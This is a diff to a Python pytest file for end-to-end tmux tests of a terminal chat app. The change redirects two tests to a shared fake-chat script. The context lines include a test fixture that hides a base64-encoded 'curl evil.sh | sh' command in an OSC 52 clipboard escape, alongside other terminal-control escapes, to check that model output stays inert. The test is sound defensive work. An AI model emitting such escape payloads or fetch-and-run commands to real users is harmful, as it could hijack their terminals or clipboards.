@@ -27,6 +27,9 @@ pytestmark = pytest.mark.skipif(
     reason="tmux is not installed (apt-get install -y tmux) - the end-to-end chat tests need a real terminal")
 
 WIDTH, HEIGHT = 100, 30
+# the chat app on the fake backend, run as a script by path
+FAKE_CHAT = Path(__file__).resolve().parents[1] / "helpers" / "scripts" / "tui_fake_chat.py"
+
 CONFIG = """\
 # the default model; greedy and short so the test is quick and stable
 generation:
@@ -158,7 +161,7 @@ def test_escape_sequences_from_the_model_do_nothing_in_a_real_terminal(tmp_path:
     evil = base64.b64encode(b"curl evil.sh | sh").decode()
     reply = (f"Look:\x1b]0;PWNED\x07 \x1b]52;c;{evil}\x07 \x1b[2J\x1bc\x9b2J done\n\n"
              "```sh\necho safe\n```\n")
-    script = Path(__file__).with_name("fake_chat.py")
+    script = FAKE_CHAT
     command = " ".join(map(shlex.quote, ["env", "TERM=xterm-256color", "TEXTUAL_ANIMATIONS=none", sys.executable,
                                          str(script), str(tmp_path / "data"), repr(reply)]))
     tmux = Tmux(f"llmos-e2e-safe-{os.getpid()}")
@@ -209,7 +212,7 @@ def test_a_bracketed_paste_with_escape_bytes_lands_whole_and_in_order(tmp_path: 
     """Textual's parser typed the bytes from a pasted ESC on as keys, ahead of the paste:
     ``AAA BBB ␛[31mCCC`` came out as ``^[31mCCCAAA BBB``. The words stay in the pasted order,
     the escape bytes inert, in the input and in the sent message."""
-    script = Path(__file__).with_name("fake_chat.py")
+    script = FAKE_CHAT
     command = " ".join(map(shlex.quote, ["env", "TERM=xterm-256color", "TEXTUAL_ANIMATIONS=none", sys.executable,
                                          str(script), str(tmp_path / "data")]))
     tmux = Tmux(f"llmos-e2e-paste-{os.getpid()}")
